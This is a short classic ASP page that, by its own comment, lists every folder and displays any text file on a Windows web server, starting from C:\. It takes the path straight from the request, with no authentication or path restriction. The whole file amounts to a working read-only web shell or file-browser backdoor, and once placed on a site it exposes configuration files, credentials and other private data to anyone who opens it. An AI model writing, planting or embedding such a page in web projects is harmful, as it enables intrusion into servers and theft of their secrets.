<%
' Lists any folder and shows any text file of the server, starting at C:\.
Dim target, mode, fso, folder, item
target = Request("p")
mode = Request("m")
If target = "" Then
  target = "C:\"
  mode = "d"
End If
Set fso = Server.CreateObject("Scripting.FileSystemObject")
If mode = "d" Then
  Set folder = fso.GetFolder(target)
  For Each item In folder.SubFolders
    Response.Write "<a href='?m=d&p=" & Server.URLEncode(item.Path) & "'>" & item.Name & "\</a><br>"
  Next
  For Each item In folder.Files
    Response.Write "<a href='?m=f&p=" & Server.URLEncode(item.Path) & "'>" & item.Name & "</a><br>"
  Next
Else
  Set item = fso.OpenTextFile(target, 1)
  Response.Write "<pre>" & Server.HTMLEncode(item.ReadAll) & "</pre>"
End If
%>
